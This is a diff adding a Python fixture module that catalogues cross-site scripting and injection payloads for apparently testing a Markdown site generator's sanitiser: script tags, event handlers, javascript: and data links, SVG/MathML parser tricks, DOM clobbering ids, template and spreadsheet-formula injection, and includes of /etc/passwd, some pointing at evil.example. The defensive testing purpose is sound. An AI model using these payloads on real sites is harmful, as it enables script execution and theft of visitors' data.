@@ -1,0 +1,305 @@
+"""What people put into texts to run a script in a reader's browser, by the kinds that public collections know.
+
+`RUN` stands for a script that springs the trap, `AWAY` for an address elsewhere.
+"""
+
+from __future__ import annotations
+
+_SCRIPTS = {
+    "script": "<script>RUN</script>",
+    "script in capitals": "<SCRIPT>RUN</SCRIPT>",
+    "script in mixed letters": "<ScRiPt>RUN</sCrIpT>",
+    "script with attributes": "<script type='text/javascript' defer async>RUN</script>",
+    "script of a module": "<script type=module>RUN</script>",
+    "script from elsewhere": "<script src=AWAY></script>",
+    "script from elsewhere without a scheme": "<script src=//evil.example/x.js></script>",
+    "script from data": "<script src='data:text/javascript,RUN'></script>",
+    "script without an end": "<script>RUN",
+    "script with a slash": "<script/x>RUN</script>",
+    "script with a new line": "<script\n>RUN</script\n>",
+    "script inside script": "<scr<script>ipt>RUN</scr</script>ipt>",
+    "script after a closed title": "</title><script>RUN</script>",
+    "script after a closed textarea": "</textarea><script>RUN</script>",
+    "script after a closed comment": "--><script>RUN</script>",
+    "script in a comment that ends early": "<!--><script>RUN</script>-->",
+    "script in a comment that ends oddly": "<!-- --!><script>RUN</script> -->",
+    "script in a conditional comment": "<!--[if true]><script>RUN</script><![endif]-->",
+    "script in CDATA": "<![CDATA[<script>RUN</script>]]>",
+    "script in a processing instruction": "<?xml version='1.0'?><script>RUN</script>",
+    "script in noscript": "<noscript><p title='</noscript><script>RUN</script>'></noscript>",
+    "script in a template": "<template><script>RUN</script></template>",
+    "script in a select": "<select><option><script>RUN</script></select>",
+    "script in a style": "<style><script>RUN</script></style>",
+    "script in an xmp": "<xmp><p title='</xmp><script>RUN</script>'></xmp>",
+    "script in a table": "<table><script>RUN</script><tr><td>a</table>",
+    "script with a null": "<scr\0ipt>RUN</scr\0ipt>",
+    "an import map": "<script type=importmap>{\"imports\":{\"a\":\"AWAY\"}}</script>",
+    "speculation rules": "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"AWAY\"]}]}</script>",
+}  # fmt: skip
+
+_HANDLERS = {
+    "img onerror": "<img src=x onerror=RUN>",
+    "img onerror in quotes": '<img src="x" onerror="RUN">',
+    "img onerror without blanks": "<img/src=x/onerror=RUN>",
+    "img onerror with a form feed": "<img\fsrc=x\fonerror=RUN>",
+    "img onerror with a tab": "<img\tsrc=x\tonerror=RUN>",
+    "img onerror in capitals": "<IMG SRC=x ONERROR=RUN>",
+    "img onerror as entities": "<img src=x onerror=&#111;&#119;&#110;&#101;&#100;&#40;&#41;>",
+    "img onload": "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=RUN>",
+    "img without an end": "<img src=x onerror=RUN //",
+    "img with quotes that do not close": "<img \"\"\"><img src=x onerror=RUN>\">",
+    "image instead of img": "<image src=x onerror=RUN>",
+    "onclick": "<p onclick=RUN>press</p>",
+    "onmouseover": "<b onmouseover=RUN>point</b>",
+    "onfocus": "<a href=# onfocus=RUN autofocus>focus</a>",
+    "onfocus of what is made focusable": "<p tabindex=0 onfocus=RUN autofocus id=x>x</p>",
+    "onblur": "<a href=# onblur=RUN>x</a>",
+    "ontoggle": "<details open ontoggle=RUN><summary>x</summary></details>",
+    "onpointerenter": "<div onpointerenter=RUN>x</div>",
+    "onanimationstart": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=RUN>x</b>",
+    "ontransitionend": "<b style='transition:color 1s' ontransitionend=RUN>x</b>",
+    "onwheel": "<div onwheel=RUN style='height:9999px'>x</div>",
+    "oncopy": "<p oncopy=RUN>x</p>",
+    "onbeforematch": "<p hidden=until-found onbeforematch=RUN>x</p>",
+    "onload of a body": "<body onload=RUN>",
+    "onload of a frameset": "<frameset onload=RUN><frame src=x></frameset>",
+    "onpageshow": "<body onpageshow=RUN>",
+    "onhashchange": "<body onhashchange=RUN><a href=#y>x</a>",
+    "onstart of a marquee": "<marquee onstart=RUN>x</marquee>",
+    "onerror of a video": "<video src=x onerror=RUN></video>",
+    "onerror of a source": "<video><source onerror=RUN></video>",
+    "onerror of an audio": "<audio src=x onerror=RUN></audio>",
+    "oncuechange": "<video><track default oncuechange=RUN src=x></video>",
+    "onsearch": "<input type=search onsearch=RUN autofocus onfocus=RUN>",
+    "onscrollend": "<div onscrollend=RUN style='overflow:scroll'>x</div>",
+    "a handler with a namespace": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
+    "an unknown element": "<nb-x onclick=RUN tabindex=1 onfocus=RUN autofocus>x</nb-x>",
+    "accesskey": "<a href=# accesskey=x onclick=RUN>x</a>",
+}  # fmt: skip
+
+_LINKS = {
+    "javascript link": "[x](javascript:RUN)",
+    "javascript link in capitals": "[x](JaVaScRiPt:RUN)",
+    "javascript link with a blank before": "[x]( javascript:RUN)",
+    "javascript link in angle brackets": "[x](<javascript:RUN>)",
+    "javascript link with entities": "[x](&#106;avascript&colon;RUN)",
+    "javascript link with hexadecimal entities": "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN)",
+    "javascript link with a tab": "[x](java\tscript:RUN)",
+    "javascript link with a tab as entity": "[x](java&#9;script:RUN)",
+    "javascript link with a new line as entity": "[x](java&NewLine;script:RUN)",
+    "javascript link with control characters": "[x](\x01javascript:RUN)",
+    "javascript link with per cent signs": "[x](javascript%3ARUN)",
+    "javascript link with a comment": "[x](javascript://%0ARUN)",
+    "javascript link with backslashes": "[x](javascript\\:RUN)",
+    "javascript link with full-width signs": "[x](ｊａｖａｓｃｒｉｐｔ：RUN)",
+    "javascript link by reference": "[x][1]\n\n[1]: javascript:RUN",
+    "javascript link by short reference": "[x]\n\n[x]: <javascript:RUN> 'title'",
+    "javascript as an automatic link": "<javascript:RUN>",
+    "javascript link of raw HTML": "<a href=javascript:RUN>x</a>",
+    "javascript link of raw HTML with entities": "<a href='&#0000106avascript:RUN'>x</a>",
+    "javascript link of raw HTML with a new line": "<a href='java\nscript:RUN'>x</a>",
+    "javascript link in a new window": "<a target=_blank href='javascript:RUN'>x</a>",
+    "javascript link with a base": "<base href='javascript:/a/'><a href='#//x%0ARUN'>x</a>",
+    "vbscript link": "[x](vbscript:RUN)",
+    "data link": "[x](data:text/html,<script>RUN</script>)",
+    "data link in base64": "[x](data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+)",
+    "data link with a blank": "<a href=' data:text/html,x'>x</a>",
+    "data picture with a script": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Im93bmVkKCkiLz4=)",
+    "javascript picture": "![x](javascript:RUN)",
+    "javascript picture of raw HTML": "<img src=javascript:RUN lowsrc=javascript:RUN dynsrc=javascript:RUN>",
+    "blob link": "[x](blob:AWAY)",
+    "filesystem link": "[x](filesystem:AWAY)",
+    "view-source link": "[x](view-source:javascript:RUN)",
+    "feed link": "[x](feed:javascript:RUN)",
+    "file link": "<a href='file:///etc/passwd'>x</a>",
+    "ping": "<a href=# ping=AWAY>x</a>",
+    "link in an area": "<map name=m><area shape=rect coords=0,0,99,99 href=javascript:RUN></map><img usemap=#m src=x>",
+    "quotes in a link": '[x](https://example.org/"onmouseover="RUN)',
+    "quotes in a title": "[x](https://example.org/ '\" onmouseover=RUN x=\"')",
+    "quotes in a description": '![" onerror="RUN](x.png)',
+    "quotes in a description, ended": "!['\"><script>RUN</script>](x.png)",
+}  # fmt: skip
+
+_FOREIGN = {
+    "svg onload": "<svg onload=RUN></svg>",
+    "svg with a script": "<svg><script>RUN</script></svg>",
+    "svg script by href": "<svg><script href=AWAY /></svg>",
+    "svg script by xlink": "<svg><script xlink:href='data:,RUN'/></svg>",
+    "svg animation of a link": "<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>",
+    "svg set": "<svg><set attributeName=onmouseover to=RUN></svg>",
+    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN />#x'/></svg>",
+    "svg foreignObject": "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
+    "svg title that hides": "<svg><title><script>RUN</script></title></svg>",
+    "svg style that hides": "<svg><style><img src=x onerror=RUN></style></svg>",
+    "svg desc in a table": "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
+    "math link": "<math href=javascript:RUN>x</math>",
+    "math action": "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
+    "math that hides": "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=RUN>\">",
+    "math in a form": "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=RUN src=x>\">",
+    "math annotation": "<math><annotation-xml encoding='text/html'><script>RUN</script></annotation-xml></math>",
+}  # fmt: skip
+
+_FRAMES = {
+    "iframe": "<iframe src=javascript:RUN></iframe>",
+    "iframe from elsewhere": "<iframe src=AWAY></iframe>",
+    "iframe with a document": "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
+    "iframe with a document as entities": "<iframe srcdoc='&lt;img src&equals;x onerror&equals;parent.owned()&gt;'></iframe>",
+    "iframe onload": "<iframe onload=RUN></iframe>",
+    "frame": "<frameset><frame src=javascript:RUN></frameset>",
+    "object": "<object data=javascript:RUN></object>",
+    "object from elsewhere": "<object data=AWAY type=text/html></object>",
+    "embed": "<embed src=javascript:RUN>",
+    "embed from elsewhere": "<embed src=AWAY>",
+    "applet": "<applet code=x codebase=AWAY></applet>",
+    "portal": "<portal src=AWAY></portal>",
+    "a fenced frame": "<fencedframe src=AWAY></fencedframe>",
+    "meta refresh": "<meta http-equiv=refresh content='0;url=AWAY'>",
+    "meta refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
+    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "base": "<base href=https://evil.example/>",
+    "link to a stylesheet": "<link rel=stylesheet href=AWAY>",
+    "link that is fetched ahead": "<link rel=prefetch href=AWAY><link rel=preload as=script href=AWAY>",
+    "manifest": "<link rel=manifest href=AWAY>",
+}  # fmt: skip
+
+_FORMS = {
+    "form": "<form action=AWAY><input name=x><button>x</button></form>",
+    "form to a script": "<form action=javascript:RUN><input type=submit></form>",
+    "button with an action": "<form><button formaction=javascript:RUN>x</button></form>",
+    "button of another form": "<button form=nb-form formaction=javascript:RUN>x</button>",
+    "isindex": "<isindex type=image src=1 onerror=RUN>",
+    "input image": "<input type=image src=x onerror=RUN>",
+    "keygen": "<keygen autofocus onfocus=RUN>",
+    "textarea": "<textarea autofocus onfocus=RUN></textarea>",
+    "select": "<select autofocus onfocus=RUN></select>",
+    "dialog": "<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>",
+    "popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=RUN>x</p>",
+    "content that can be edited": "<p contenteditable autofocus onfocus=RUN>x</p>",
+    "names that stand above the page's": "<form id=document><input name=cookie></form><a id=location name=location href=x>x</a>",
+}  # fmt: skip
+
+_STYLES = {
+    "style": "<style>body{background:url(AWAY)}</style>",
+    "style with an import": "<style>@import 'AWAY';</style>",
+    "style attribute": "<p style='background:url(AWAY)'>x</p>",
+    "style that covers the page": "<a href=x style='position:fixed;inset:0;z-index:9999'>x</a>",
+    "style with an expression": "<p style='width:expression(RUN)'>x</p>",
+    "style with a behaviour": "<p style='behavior:url(AWAY)'>x</p>",
+    "style with a binding": "<p style='-moz-binding:url(AWAY)'>x</p>",
+    "background of a table": "<table background=AWAY><tr><td background=javascript:RUN>x</table>",
+    "style of a list": "<ul style=\"list-style-image:url('javascript:RUN')\"><li>x</ul>",
+    "srcset": "<img srcset='AWAY 1x' src=x.png><picture><source srcset=AWAY><img></picture>",
+    "poster": "<video poster=AWAY></video>",
+    "classes of the theme": "<div class='md-dialog md-overlay' data-md-component=dialog data-md-state=open>x</div>",
+}  # fmt: skip
+
+_MARKDOWN = {
+    "attribute list": "## Title {onclick=RUN onmouseover=RUN}",
+    "attribute list of a paragraph": "text\n{: onclick=RUN style='background:url(AWAY)' }",
+    "attribute list of a link": "[x](https://example.org/){onclick=RUN target=_blank}",
+    "attribute list of a picture": "![x](x.png){onerror=RUN}",
+    "attribute list with an id": "## Title {#\"onclick=RUN}",
+    "attribute list in a heading that is a time": "### 三月 {onclick=RUN}",
+    "code": "`<img src=x onerror=RUN>`",
+    "code that does not close": "`<img src=x onerror=RUN>",
+    "fenced code with a language": "```\"><script>RUN</script>\nx\n```",
+    "fenced code with attributes": "``` {.x onclick=RUN}\nx\n```",
+    "indented code": "    <script>RUN</script>",
+    "footnote": "x[^\"><script>RUN</script>]\n\n[^\"><script>RUN</script>]: <img src=x onerror=RUN>",
+    "admonition": "!!! note \"<img src=x onerror=RUN>\"\n    <script>RUN</script>",
+    "admonition with a class": "!!! note\" onclick=\"RUN\n    x",
+    "definition list": "x\n:   <img src=x onerror=RUN>",
+    "abbreviation": "*[x]: \" onmouseover=\"RUN\n\nx",
+    "table": "| a | b |\n|---|---|\n| <script>RUN</script> | [x](javascript:RUN) |",
+    "table with handlers": "<table onclick=RUN><tr onclick=RUN><td onclick=RUN>x</table>",
+    "quote": "> <img src=x onerror=RUN>\n> [x](javascript:RUN)",
+    "list": "1、<img src=x onerror=RUN>\n2、[x](javascript:RUN)",
+    "box": "- [x] <img src=x onerror=RUN>\n- [ ](javascript:RUN)",
+    "activity": "### 三月\n\n- [ ] 8日 <img src=x onerror=RUN>（地点：<script>RUN</script>；负责：\"><b onclick=RUN>）→ [x](javascript:RUN)",
+    "activity that is cancelled": "### 四月\n\n- ~~<img src=x onerror=RUN>~~（取消：<script>RUN</script>）",
+    "theme of a month": "### 五月：<img src=x onerror=RUN>\n\n- 植树",
+    "raw HTML with Markdown": "<div markdown=1 onclick=RUN>\n\n**x** <script>RUN</script>\n\n</div>",
+    "snippet": "--8<-- \"/etc/passwd\"",
+    "snippet of several": "--8<--\nplans/a.md\nhttps://evil.example/x\n--8<--",
+    "emoji": ":\"><script>RUN</script>:",
+    "critic marks": "{++<script>RUN</script>++} {>>x<<}",
+    "mermaid": "```mermaid\ngraph LR; A[<img src=x onerror=RUN>]; click A \"javascript:RUN\"\n```",
+    "math": "$$\\href{javascript:RUN}{x}$$",
+    "template": "{{ 7+7 }} {% include '/etc/passwd' %} {# x #} ${7+7} <%= 7+7 %>",
+    "template of the theme": "{{ config.extra }} {{ self._TemplateReference__context }}",
+    "table of contents": "[TOC]\n\n## <img src=x onerror=RUN>",
+    "heading": "# <img src=x onerror=RUN>\n\n## [x](javascript:RUN)\n\n### &lt;script&gt;RUN&lt;/script&gt;",
+    "escaped twice": "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
+    "entities": "&lt;script&gt;RUN&lt;/script&gt; &#60;img src=x onerror=RUN&#62;",
+    "backslashes": "\\<script>RUN\\</script>",
+    "marks of our own": "\ufdd00\ufdd1<script>RUN</script>\ufdd01\ufdd1",
+    "marks of the library": "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 <script>RUN</script>",
+    "right to left": "\u202e<script>RUN</script>\u202c",
+    "another encoding": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
+    "long nesting": "> " * 50 + "<script>RUN</script>",
+    "ids of our own": "<h2 id=board>x</h2><p id=__search>x</p><a id=a-abcdefgh name=board>x</a>",
+}  # fmt: skip
+
+_HOSTS = (
+    "https:evil.example/x", "https:/evil.example/x", "HTTPS:///evil.example/x", "https:\\\\evil.example/x", "//evil.example/x",
+    "///evil.example/x", "/\\evil.example/x", "\\/evil.example/x", "ht&Tab;tps://evil.example/x", "/&NewLine;/evil.example/x",
+    "&#104;ttps:evil.example/x", "https&colon;evil.example/x", "/&sol;evil.example/x", " //evil.example/x", "%2F%2Fevil.example/x",
+    "ｈｔｔｐｓ：／／evil.example/x", "//ｅｖｉｌ.example/x",
+)  # fmt: skip
+_LOADED = """![x](TARGET)
+
+![x][1]
+
+[1]: TARGET
+
+<img src='TARGET' alt=x>
+
+x <img src=x.png srcset='TARGET 1x' alt=x> <picture><source srcset='TARGET'></picture>
+
+<p style="background:u\\72l('TARGET')">x</p>
+
+<table background='TARGET'><tr><td>x</table>
+
+<video poster='TARGET'></video> <input type=image src='TARGET'>"""
+_ADDRESSES = {f"what is loaded from {host}": _LOADED.replace("TARGET", host) for host in _HOSTS}
+
+_IDS = {
+    "a heading that takes the search's id": "## NB search\n\n## NB found\n\n## NB results",
+    "a heading that asks for the search's id": "## x {#nb-search}\n\n## y {#nb-wall}",
+    "a heading that takes a footnote's id": "## fn 1\n\n## fnref 1\n\nx[^1]\n\n[^1]: y",
+    "headings that take the theme's ids": "## x {#__search}\n\n## y {#__drawer}\n\n## z {#__palette}\n\n## w {#__toc}",
+    "headings that take variables": "## location\n\n## document {#document}\n\n## name {#name}\n\n## cookie {#cookie}",
+    "raw ids of ours": "<a id='nb-search' name='__search'>x</a> <p id=__drawer>x</p> <img src=x.png alt=x name=cookie id=nb-wall>",
+    "a label for the theme's boxes": "<label for=__search>x</label> <label for=__drawer>x</label>",
+    "form elements that clobber": "<form id=nb-search><input name=getElementById><input name=body></form>",
+    "attributes in braces": "x {#nb-search .md-overlay onclick=RUN style='position:fixed' data-md-component=search}",
+    "attributes in braces of a link": "[x](x.png){ onmouseover='RUN' target=_blank ping=AWAY href='javascript:RUN' }",
+    "attributes in braces of a picture": "![x](x.png){ onerror='RUN' src='//evil.example/x' srcset='//evil.example/x 2x' }",
+    "attributes in braces of a block": "x\n{: onclick='RUN' id=board }",
+    "a diagram": "```mermaid\ngraph TD; A-->B;\n```\n\n<pre class=mermaid><code>graph TD; A--&gt;B;</code></pre>",
+    "classes of the theme": "<div class='md-overlay md-dialog md-dialog--active' data-md-state=open>x</div>",
+}
+
+BODIES = _SCRIPTS | _HANDLERS | _LINKS | _FOREIGN | _FRAMES | _FORMS | _STYLES | _MARKDOWN | _IDS
+PAGES = BODIES | _ADDRESSES
+"""What stands in bodies of hand-written pages; addresses are read alike in both, and tried in these."""
+
+TEXTS = {
+    "script": "<script>RUN</script>",
+    "img": "\"><img src=x onerror=RUN>",
+    "quotes": "' onmouseover='RUN' x='",
+    "double quotes": '" onfocus="RUN" autofocus x="',
+    "title": "</title><script>RUN</script>",
+    "comment": "--><script>RUN</script><!--",
+    "CDATA": "]]><script>RUN</script><![CDATA[",
+    "JSON": "</script><script>RUN</script>",
+    "entities": "&lt;script&gt;RUN&lt;/script&gt;",
+    "template": "{{ 7+7 }}{% raw %}{{ self }}",
+    "Markdown": "[x](javascript:RUN)**x**`x`",
+    "formula": "=HYPERLINK(\"AWAY\",\"x\")",
+    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "javascript": "javascript:RUN",
+    "svg": "<svg/onload=RUN>",
+    "calendar": "x\\nEND:VEVENT\\nATTACH:AWAY",
+}  # fmt: skip
+"""What stands in a field of the front matter, in a name or in a setting: it must be shown, and be nothing but text."""
